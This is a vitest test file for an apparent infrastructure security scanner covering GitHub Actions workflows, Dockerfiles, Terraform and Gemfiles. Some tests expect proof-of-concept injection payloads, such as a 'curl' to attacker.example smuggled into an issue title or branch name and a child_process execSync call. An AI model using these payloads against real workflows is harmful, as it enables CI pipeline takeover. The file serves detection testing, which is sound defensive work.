/** What people read of findings about infrastructure. */
import { describe, expect, it } from 'vitest';
import { loadInfrastructureRules } from '../../../src/engine/infrastructure/load-infrastructure-rules.ts';
import { scanTree } from '../../../src/engine/scan-tree.ts';
import { memoryTree } from '../memory-tree.ts';
import { exampleFiles } from '../support/infrastructure-examples.ts';

const scan = (files: Record<string, string>) => scanTree(memoryTree(files), { repositoryName: 'shop' });

it('approves a script injection and shows the title that proves it', async () => {
  const { findings } = await scan({
    '.github/workflows/greet.yml': `on: issues
permissions: { issues: write }
jobs:
  greet:
    runs-on: ubuntu-latest
    steps:
      - run: echo "Hello \${{ github.event.issue.title }}"
`,
  });
  const [found] = findings;
  expect(found).toMatchObject({
    ruleId: 'infrastructure/workflow-script-injection',
    severity: 'critical',
    startLine: 7,
    verification: { verdict: 'approved', score: 95 },
  });
  expect(found?.tags).toEqual(expect.arrayContaining(['cwe-94', 'workflow-injection', 'yaml']));
  expect(found?.proofOfConcept).toContain('as the value of `github.event.issue.title`');
  expect(found?.proofOfConcept).toContain('"; curl https://attacker.example/ #');
  expect(found?.mermaidTrace).toContain('sink');
  expect(found?.verification.reason).toContain('It runs on the event issues.');
  expect(found?.description).toContain('a field of the event that starts the workflow');
});

it.each([
  ['run', 'branch', 'pull_request_target', "echo '${{ github.head_ref }}'", "';{curl,attacker.example};#"],
  ['run', 'plain', 'issues', 'echo ${{ github.event.issue.body }}', '; curl https://attacker.example/ #'],
])('fits the proof to where it lands: %s %s', async (_api, _where, event, script, proof) => {
  const { findings } = await scan({
    '.github/workflows/a.yml': `on: ${event}\npermissions: { issues: write }\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: ${script}\n`,
  });
  expect(findings[0]?.proofOfConcept).toContain(proof);
});

it('fits the proof to a program', async () => {
  const { findings } = await scan({
    '.github/workflows/a.yml': `on: issues
permissions: { issues: write }
jobs:
  a:
    runs-on: x
    steps:
      - uses: actions/github-script@v7
        with:
          script: console.log(\`\${{ github.event.issue.title }}\`)
`,
  });
  expect(findings[0]?.proofOfConcept).toContain("${require('child_process').execSync('id')}");
});

it('leaves to a person what a condition may stop', async () => {
  const { findings } = await scan({
    '.github/workflows/a.yml': `on: { issue_comment: { types: [created] } }
permissions: { contents: read }
jobs:
  a:
    if: github.event.comment.author_association == 'MEMBER'
    runs-on: x
    steps:
      - run: gh pr checkout \${{ github.event.issue.number }} && make
`,
  });
  expect(findings.map(({ ruleId, verification }) => [ruleId, verification.verdict])).toEqual([
    ['infrastructure/workflow-runs-proposed-code', 'uncertain'],
  ]);
});

it('says what it rests on, and tags the language', async () => {
  const { findings } = await scan({
    Dockerfile: 'FROM node:22.1.0\nUSER root\nCMD ["x"]\n',
    'main.tf':
      'resource "aws_db_instance" "shop" {\n  publicly_accessible = true\n  storage_encrypted = true\n}\n',
  });
  expect(
    findings.map(({ ruleId, startLine, verification, tags }) => [
      ruleId,
      startLine,
      verification.verdict,
      tags.at(-1),
    ]),
  ).toEqual([
    ['infrastructure/aws-public-database', 2, 'approved', 'terraform'],
    ['infrastructure/dockerfile-root-user', 2, 'approved', 'dockerfile'],
  ]);
  expect(findings[0]?.description).toContain('in `aws_db_instance.shop`');
  expect(findings[0]?.verification.checks.find((check) => check.name === 'api-certainty')?.detail).toContain(
    'written in the file',
  );
});

it('rejects or leaves what stands in tests, and says nothing of what is merely untidy there', async () => {
  const { findings } = await scan({ 'test/e2e/Dockerfile': 'FROM node\nUSER root\nCMD ["x"]\n' });
  expect(findings.map(({ ruleId, verification }) => [ruleId, verification.verdict])).toEqual([
    ['infrastructure/dockerfile-root-user', 'rejected'],
  ]);
});

it('keeps the identity of a finding when lines move', async () => {
  const text =
    'resource "aws_db_instance" "shop" {\n  publicly_accessible = true\n  storage_encrypted = true\n}\n';
  const before = await scan({ 'main.tf': text });
  const after = await scan({ 'main.tf': `# moved\n\n${text}` });
  expect(after.findings.map(({ fingerprint }) => fingerprint)).toEqual(
    before.findings.map(({ fingerprint }) => fingerprint),
  );
});

it('takes a reason for silence from a comment', async () => {
  const { findings, suppressed } = await scan({
    Dockerfile:
      'FROM node:22.1.0\n# whitebox-ignore: infrastructure/dockerfile-root-user it needs port 80\nUSER root\nCMD ["x"]\n',
  });
  expect(findings).toEqual([]);
  expect(suppressed).toHaveLength(1);
});

it('looks at nothing of others', async () => {
  const { findings, notAnalysed } = await scan({ 'node_modules/x/Dockerfile': 'FROM node\nUSER root\n' });
  expect(findings).toEqual([]);
  expect(notAnalysed).toEqual([]);
});

describe('a secret', () => {
  const examples = loadInfrastructureRules()
    .filter(({ isSecret, category }) => isSecret || category === 'hard-coded-credentials')
    .flatMap((rule) => rule.bad.map((example) => ({ id: rule.id, files: exampleFiles(rule, example) })));

  it.each(examples)('of $id is shown nowhere', async ({ id, files }) => {
    const report = await scan(files);
    expect(report.findings.length, id).toBeGreaterThan(0);
    expect(JSON.stringify(report)).not.toMatch(/Zu7kQpw41|9fG2kLmz7QpA|WnU3a1FwdzQx|8C5D1F0E7A9B24D3/);
  });
});

it('shows what stands there where a rule looks at several settings', async () => {
  const { findings } = await scan({ Gemfile: "source 'http://gems.shop-prod.net'\n" });
  expect(findings[0]?.description).toContain('`http://gems.shop-prod.net` stands at `Gemfile:1`');
});
